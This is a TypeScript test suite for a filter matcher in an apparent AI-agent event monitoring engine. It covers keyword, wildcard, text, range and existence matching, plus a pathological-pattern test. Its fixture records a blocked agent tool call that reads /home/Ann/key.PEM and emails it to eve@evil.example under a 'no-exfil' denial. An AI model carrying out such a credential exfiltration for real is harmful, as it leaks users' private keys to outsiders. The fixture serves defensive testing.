/** What the filter's conditions mean, by example: the suite holds every engine to this. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { docOf } from '../../src/engine/doc.ts';
import type { Filter } from '../../src/engine/engine.ts';
import { matcher } from '../../src/engine/match.ts';
import { TEXT_CHARS } from '../../src/engine/text.ts';
import type { Event } from '../../src/event/event.ts';
import { eventOf, NOW_MS } from './generate.ts';

const draft = {
  type: 'tool_call',
  session_id: 's',
  tool: 'send_email',
  status: 'blocked',
  content: 'Quarterly report',
  arguments: { to: 'eve@evil.example', body: { lines: ['秘密のパスワード', 42] } },
  resources: [
    { kind: 'file', id: '/home/Ann/key.PEM', access: 'read' },
    { kind: 'host', id: 'evil.example', access: 'network' },
  ],
  decision: { outcome: 'deny', policy_ids: ['no-exfil', 'P2'] },
  tokens: { input: 3, output: 4 },
  duration_ms: 12,
};
const doc = docOf(eventOf('acme', 1, { at: NOW_MS, draft }) as Event);
const holds = (filter: Filter) => matcher(filter)(doc);
const keyword = (field: string, value: string) => holds({ kind: 'keyword', field, value });
const pattern = (field: string, text: string) => holds({ kind: 'pattern', field, pattern: text });
const text = (words: string, field?: string) =>
  holds({ kind: 'text', text: words, prefix: false, ...(field === undefined ? {} : { field }) });
const range = (field: string, op: '=' | '<' | '>=', value: number) =>
  holds({ kind: 'range', field, op, value });

describe('match', () => {
  it('compares keywords regardless of ASCII case, any of several', () => {
    assert.ok(keyword('tool', 'SEND_EMAIL') && keyword('decision.policy_ids', 'p2'));
    assert.ok(
      keyword('resources.kind', 'host') && !keyword('tool', 'send') && !keyword('model', ''),
    );
  });

  it('matches patterns anywhere a star stands, on the whole value', () => {
    assert.ok(pattern('resources.id', '*.pem') && pattern('resources.id', '/home/*/key*'));
    assert.ok(pattern('tool', 'send*') && pattern('tool', '*') && pattern('tool', 'send_email'));
    assert.ok(
      !pattern('tool', 'send?email') && !pattern('tool', '*sendx*') && !pattern('model', '*'),
    );
    assert.ok(!pattern('tool', 'send_email*send_email'), 'pieces do not overlap');
  });

  it('finds text in any field, in one, and in the names of the row', () => {
    assert.ok(text('quarterly REPORT') && text('パスワード') && text('42') && text('key.pem'));
    assert.ok(
      text('report', 'content') && !text('report', 'arguments') && !text('report quarterly'),
    );
    assert.ok(!text('...'), 'what holds no word is found nowhere');
  });

  it('compares numbers and times, and sums tokens', () => {
    assert.ok(range('duration_ms', '=', 12) && range('tokens.total', '=', 7));
    assert.ok(
      range('time', '>=', NOW_MS) && !range('time', '<', NOW_MS) && !range('bytes', '<', 1),
    );
  });

  it('knows what has a value', () => {
    const exists = (field: string) => holds({ kind: 'exists', field });
    assert.ok(exists('arguments') && exists('tool') && exists('time') && exists('resources.id'));
    assert.ok(!exists('model') && !exists('result') && !exists('bytes'));
  });

  it('says so where a row has more text than is indexed', () => {
    const long = docOf(
      eventOf('acme', 2, {
        at: NOW_MS,
        draft: { ...draft, result: 'x '.repeat(TEXT_CHARS) },
      }) as Event,
    );
    assert.ok(long.cut && !doc.cut);
    assert.ok((long.texts.get('result')?.length ?? 0) > 1000);
  });

  it('takes no more than linear passes for a hostile pattern', () => {
    const long = docOf(
      eventOf('acme', 3, { at: NOW_MS, draft: { ...draft, path: 'a'.repeat(8000) } }) as Event,
    );
    assert.equal(
      matcher({ kind: 'pattern', field: 'path', pattern: `${'*a'.repeat(4000)}b` })(long),
      false,
    );
  });
});
